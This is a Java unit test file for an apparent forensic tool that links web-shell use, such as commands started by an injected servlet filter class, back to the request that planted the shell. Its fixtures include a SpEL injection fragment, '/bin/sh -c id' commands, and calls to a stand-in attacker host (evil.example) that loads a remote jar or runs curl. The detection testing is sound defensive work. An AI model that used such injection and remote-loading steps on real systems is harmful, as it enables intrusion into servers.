package whorl.collector.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import whorl.collector.analysis.findings.Finding;
import whorl.collector.analysis.kinds.Severity;
import whorl.collector.analysis.kinds.Technique;
import whorl.collector.timeline.Row;

/**
 * The use of a web shell is reported with the request that added the shell, and not as a break-in
 * of its own.
 */
class UseOfShellTest extends UseOfShellFixture {
  private Row addInjection(String className) {
    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", "T(java.lang.Runtime).x");
    Row row = rows.of("r1", "whorl.ClassDefine", "className", className, "origin", "lookup");
    rows.request("r1", "POST", "/inject", "", ADDRESS, 200);
    return row;
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x.Shell",
        "org.apache.catalina.core.ApplicationFilterChain2",
        "com.sun.proxy.$Proxy99",
        "jdk.internal.reflect.GeneratedMethodAccessor88",
        "org.apache.catalina.filters.Cors",
        "x.Shell$$Lambda$412",
        "x.Hidden/0x000078aa14001800",
      })
  void use_ofAClassThatARequestAdded_namesThatRequest(String name) throws Exception {
    Row defined = addInjection(name);
    rows.of(
        "r1",
        "class.found",
        "className",
        name,
        "definedAt",
        "2026-11-25T09:35:30.002Z",
        "findings",
        List.of(Map.of("kind", "made-class", "severity", "high", "reason", "in no jar")));
    rows.later(1_000);
    rows.on(
        stack(
            "java.base/java.lang.ProcessBuilder.start(ProcessBuilder.java:1143)",
            "app//" + name + ".doFilter(Unknown Source)"));
    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);

    Finding use = wayIn("Use of the class " + name.replaceAll("/0x.*", "") + " through GET /hello");

    assertThat(use.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(use.text())
        .contains("start /bin/sh -c id", "the request POST /inject defined it")
        .contains("from bytes that are in no jar at 09:35:30.002.")
        .doesNotContain(NOTHING);
    assertThat(use.rows()).contains(defined.id());
    assertThat(use.techniques()).contains(Technique.WEB_SHELL);
    assertThat(waysIn()).hasSize(2).first().asString().contains("POST /inject");
  }

  @Test
  void use_ofAClassWhoseStackIsFromTheRecording_isKnownToo() throws Exception {
    addInjection("x.Shell");
    rows.on(
        "java.lang.ProcessBuilder.start(line 1143)",
        "x.Shell.doFilter(line 9)",
        "… deeper frames were not recorded");
    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);

    assertThat(waysIn()).contains("Use of the class x.Shell through GET /hello");
  }

  @Test
  void use_ofAClassOfOneRequestThatAnotherRegistered_namesBoth() throws Exception {
    addInjection("x.Shell");
    rows.of("r2", "whorl.Registration", "kind", "filter", "className", "x.Shell", "target", "/*");
    rows.request("r2", "POST", "/register", "", ADDRESS, 200);
    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "x.Shell.doFilter(S.java:1)"));
    rows.of("r3", "whorl.ProcessStart", "command", "id", "pid", 7);
    rows.request("r3", "GET", "/any", "", ADDRESS, 200);

    assertThat(wayIn("Use of the class x.Shell through GET /any").text())
        .contains("the request POST /inject defined it")
        .contains("the request POST /register registered it as filter for /*");
  }

  @Test
  void aRequestThatAFilterOnlyPassesOn_isNoUseOfIt() throws Exception {
    addInjection("x.Shell");
    rows.on(
        "java.lang.ProcessBuilder.start(P.java:1)",
        "shop.Convert.run(Convert.java:7)",
        "org.apache.catalina.core.ApplicationFilterChain.doFilter(A.java:166)",
        "x.Shell.doFilter(Unknown Source)",
        "org.apache.catalina.core.ApplicationFilterChain.doFilter(A.java:166)");
    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    rows.request("r2", "GET", "/convert", "", ADDRESS, 200);

    assertThat(wayIn("Way in: a command run by a request through GET /convert").text())
        .contains(NOTHING);
  }

  @Test
  void aRequestThatAddsAClassAndRunsIt_isTheWayIn() throws Exception {
    rows.of("r1", "whorl.LoaderCreate", "urls", "http://evil.example/a.jar");
    rows.of("r1", "whorl.ClassDefine", "className", "x.Evil", "origin", "loader");
    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "x.Evil.<clinit>(E.java:1)"));
    rows.of("r1", "whorl.ProcessStart", "command", "id", "pid", 7);
    rows.request("r1", "POST", "/yaml", "", ADDRESS, 200);

    assertThat(waysIn())
        .containsExactly("Way in: a class loader with a remote address through POST /yaml");
  }

  @Test
  void use_ofAClassThatOnlyTheCaptureFound_isKnown() throws Exception {
    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "a.Forged.doFilter(F.java:1)"));
    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
    rows.event(
        "class.found",
        "name",
        "a.Forged",
        "className",
        "a.Forged",
        "findings",
        List.of(
            Map.of(
                "kind",
                "filter",
                "severity",
                "critical",
                "reason",
                "the place that it says it came from does not have it")));

    assertThat(wayIn("Use of the class a.Forged through GET /hello").text())
        .contains("the capture reports: the place that it says it came from does not have it")
        .doesNotContain(NOTHING);
  }

  @Test
  void use_ofAClassLoadedOverTheNetwork_isKnown() throws Exception {
    rows.of("r1", "whorl.ClassLoad", "className", "Evil", "codeSource", "http://evil.example/");
    rows.request("r1", "GET", "/log", "", ADDRESS, 200);
    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "Evil.run(E.java:1)"));
    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);

    assertThat(wayIn("Use of the class Evil through GET /hello").text())
        .contains("loaded it from http://evil.example/");
  }

  @Test
  void use_byAThread_namesTheRequestThatAddedItsClass() throws Exception {
    addInjection("x.Worker");
    rows.thread("Timer-7").on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
    rows.event("whorl.ProcessStart", "command", "curl http://evil.example/", "pid", 7);
    rows.thread("Timer-7").on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
    rows.event("whorl.ProcessStart", "command", "id", "pid", 8);

    Finding use = wayIn("Use of the class x.Worker by the thread Timer-7");

    assertThat(use.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(use.text())
        .contains("start curl http://evil.example/, and start id")
        .contains("the request POST /inject defined it");
    assertThat(use.rows()).hasSize(3);
    assertThat(waysIn()).hasSize(2);
  }

  @Test
  void aClassThatNoRequestAdded_mayBeALibrarys_andIsOnlyNamed() throws Exception {
    rows.event("whorl.ClassDefine", "className", "shop.Cart$$Fast", "origin", "lookup");
    rows.on(
        stack(
            "java.lang.ProcessBuilder.start(P.java:1)",
            "shop.Cart.print(Cart.java:1)",
            "shop.Cart$$Fast.print(Unknown Source)"));
    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    rows.request("r2", "GET", "/cart", "", ADDRESS, 200);

    assertThat(wayIn("Way in: a command run by a request through GET /cart").text())
        .contains("The class shop.Cart$$Fast: the thread main defined it")
        .contains("does not know whether a library made it")
        .doesNotContain(NOTHING);
  }

  @Test
  void aClassThatNothingSuspectAdded_makesNoRequestSuspect() throws Exception {
    rows.of("r1", "whorl.ClassDefine", "className", "shop.Cart$$Fast", "origin", "lookup");
    rows.request("r1", "GET", "/cart", "", "10.0.0.1", 200);
    rows.on(stack("java.io.F.x(F.java:1)", "shop.Cart$$Fast.print(Unknown Source)"));
    rows.of("r2", "whorl.FileOpen", "path", "/app/keys/shop.p12", "access", "read");
    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "shop.Cart$$Fast.print(U:1)"));
    rows.of("r2", "whorl.ProcessStart", "command", "/usr/bin/ffmpeg -i a b", "pid", 7);
    rows.request("r2", "GET", "/cart/print", "", "10.0.0.1", 200);
    rows.thread("scheduler-1")
        .on("java.lang.ProcessBuilder.start(P.java:1)", "shop.Cart$$Fast.print(U:1)");
    rows.event("whorl.ProcessStart", "command", "/usr/bin/ffmpeg -i a b", "pid", 8);

    assertThat(waysIn()).isEmpty();
  }

  @Test
  void aNameThatAnOrdinaryClassHasToo_provesNothing() throws Exception {
    addInjection("shop.Convert");
    rows.event("whorl.ClassLoad", "className", "shop.Convert", "codeSource", "file:/app/shop.jar");
    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "shop.Convert.run(C.java:1)"));
    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    rows.request("r2", "GET", "/convert", "", ADDRESS, 200);

    assertThat(waysIn()).contains("Way in: a command run by a request through GET /convert");
  }

  @Test
  void aClassOfTheApplicationThatIsRegisteredForARequest_isNoShell() throws Exception {
    rows.of("r1", "whorl.Registration", "kind", "servlet", "className", "shop.Convert");
    rows.request("r1", "GET", "/manager/reload", "", "10.0.0.1", 200);
    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "shop.Convert.doGet(C.java:1)"));
    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    rows.request("r2", "GET", "/convert", "", ADDRESS, 200);

    assertThat(wayIn("Way in: a command run by a request through GET /convert").text())
        .contains(NOTHING);
  }

  @Test
  void aHiddenClass_whoseFramesAreOnNoStack_isNamedAsPossibleCause() throws Exception {
    rows.of(
        "r1",
        "whorl.ClassDefine",
        "className",
        "x.Hidden/0x0001",
        "origin",
        "hidden",
        "hidden",
        true);
    rows.alert("r1", "Class Defined", "high");
    rows.request("r1", "POST", "/inject", "", ADDRESS, 200);
    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)"));
    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    rows.request("r2", "GET", "/any", "", ADDRESS, 200);

    assertThat(wayIn("Way in: a command run by a request through GET /any").text())
        .contains(
            "A hidden class was added before", "x.Hidden: the request POST /inject defined it")
        .doesNotContain(NOTHING);
  }

  @Test
  void anAlertWhoseStackHasTheShell_isItsUse() throws Exception {
    addInjection("x.Shell");
    rows.on(stack("java.net.Socket.connect(S.java:1)", "x.Shell.doFilter(S.java:1)"));
    rows.alert("r2", "Connection to a Strange Port", "high");
    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);

    assertThat(wayIn("Use of the class x.Shell through GET /hello").text())
        .contains("do what the rule \"Connection to a Strange Port\" looks for");
  }

  @Test
  void summary_beginsAtTheFirstWayInOfTheChain_notAtTheServersStart() throws Exception {
    rows.event("whorl.JndiLookup", "name", "ldap://directory.corp/cn=shop");
    rows.later(60_000);
    addInjection("x.Shell");
    rows.later(1_000);
    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "x.Shell.doFilter(S.java:1)"));
    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);

    assertThat(Evidences.report(rows).summary())
        .contains("The most severe way in began at 2026-11-25 09:36:29.984 UTC")
        .contains(
            "expression injection through POST /inject, by 203.0.113.7; there was also use of")
        .contains("Between 09:36:29.984 and ");
  }
}
